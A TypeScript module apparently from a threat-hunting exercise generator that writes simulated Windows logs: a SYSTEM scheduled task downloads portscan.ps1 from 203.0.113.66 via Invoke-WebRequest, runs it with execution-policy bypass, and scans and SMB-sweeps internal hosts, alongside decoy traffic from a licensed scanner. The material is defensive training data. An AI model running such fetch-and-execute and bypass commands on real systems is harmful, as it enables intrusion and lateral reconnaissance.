/** What the hunter is to find, and the licensed scanner that does much the same with leave. */
import { at, seconds } from './clock.ts';
import type { Host, Log, Process } from './log.ts';
import { system } from './log.ts';
import { everyHost, servers, target } from './network.ts';
import { cmd, conhost, powershell, resident, residents } from './programs.ts';
import type { Random } from './random.ts';

/** Ports that answer on the servers; everything else refuses. */
const openPorts = new Set([22, 80, 135, 139, 443, 445]);

/** The first connection of the scan. */
export const scanStart = at('12:37:46.317813');

/** A task that runs as SYSTEM fetches portscan.ps1 and starts it; the script scans the legacy servers, then sweeps for SMB. */
export function writeIncident(log: Log, random: Random): void {
  const { scheduler } = residents(random);
  log.touchFile({
    host: target,
    time: at('12:34:31.902551'),
    by: scheduler,
    action: 'FileCreated',
    folder: 'C:\\Windows\\System32\\Tasks',
    fileName: 'SystemHealthCheck',
    sizeBytes: 3_412,
  });

  const download =
    '-NoProfile -Command "Invoke-WebRequest -Uri http://203.0.113.66/tools/portscan.ps1 -OutFile C:\\programdata\\portscan.ps1"';
  const fetcher = runAsTask(log, scheduler, download, at('12:35:02.114087'));
  log.connect({
    host: target,
    time: at('12:35:04.530912'),
    by: fetcher,
    to: '203.0.113.66',
    port: 80,
    url: 'http://203.0.113.66/tools/portscan.ps1',
  });
  log.touchFile({
    host: target,
    time: at('12:35:05.201377'),
    by: fetcher,
    action: 'FileCreated',
    folder: 'C:\\ProgramData',
    fileName: 'portscan.ps1',
    sizeBytes: 2_871,
  });

  const scanner = runAsTask(
    log,
    scheduler,
    '-ExecutionPolicy Bypass -File C:\\programdata\\portscan.ps1',
    at('12:37:41.870336'),
  );
  let time = scanStart;
  for (const victim of [servers.legacyApp, servers.legacyPortal, servers.legacyDatabase, servers.files]) {
    for (let port = 1; port <= 1024; port++) {
      probe(log, target, scanner, victim.ip, port, time);
      time += 70_000 + random.integer(0, 40_000);
    }
  }
  for (const network of ['10.0.0', '10.0.1']) {
    for (let host = 1; host <= 254; host++) {
      const to = `${network}.${host}`;
      if (to !== target.ip) probe(log, target, scanner, to, 445, time);
      time += 70_000 + random.integer(0, 40_000);
    }
  }
  log.touchFile({
    host: target,
    time: time + seconds(1),
    by: scanner,
    action: 'FileCreated',
    folder: 'C:\\ProgramData',
    fileName: 'scan_results.csv',
    sizeBytes: 48_230,
  });
}

/** The Task Scheduler service starts a command shell, which starts PowerShell with these arguments; returns the PowerShell. */
function runAsTask(log: Log, scheduler: Process, commandArguments: string, startedAt: number): Process {
  const what = powershell(commandArguments);
  const shell = log.start(
    target,
    { ...cmd(`/c ${what.commandLine}`), startedAt, account: system },
    scheduler,
  );
  const script = log.start(target, { ...what, startedAt: startedAt + 412_019, account: system }, shell);
  log.start(target, { ...conhost, startedAt: startedAt + 466_233, account: system }, script);
  return script;
}

/** The licensed scanner tests the servers at night and looks for SMB in one office network after lunch. */
export function writeLicensedScanner(log: Log, random: Random): void {
  const host = servers.vulnerabilityScanner;
  const program = {
    folder: 'C:\\Program Files\\VulnScan',
    fileName: 'vulnscand.exe',
    commandLine: 'vulnscand.exe --service',
  };
  const scanner = resident(random, program, residents(random).services.account, 'services.exe');
  const testedPorts = [
    ...Array.from({ length: 100 }, (_, index) => index + 1),
    135,
    139,
    443,
    445,
    1433,
    3306,
    3389,
    5985,
    8080,
    8443,
  ];
  let time = at('02:00:03.4');
  for (const server of Object.values(servers)) {
    if (server === host) continue;
    for (const port of testedPorts) {
      probe(log, host, scanner, server.ip, port, time);
      time += 250_000 + random.integer(0, 120_000);
    }
  }
  time = at('13:15:00.8');
  for (let last = 1; last <= 254; last++) {
    probe(log, host, scanner, `10.0.1.${last}`, 445, time);
    time += 250_000 + random.integer(0, 120_000);
  }
}

const liveAddresses = new Set(everyHost.map((host) => host.ip));

function probe(log: Log, host: Host, by: Process, to: string, port: number, time: number): void {
  const answers = liveAddresses.has(to) && openPorts.has(port);
  log.connect({ host, time, by, to, port, action: answers ? 'ConnectionSuccess' : 'ConnectionFailed' });
}
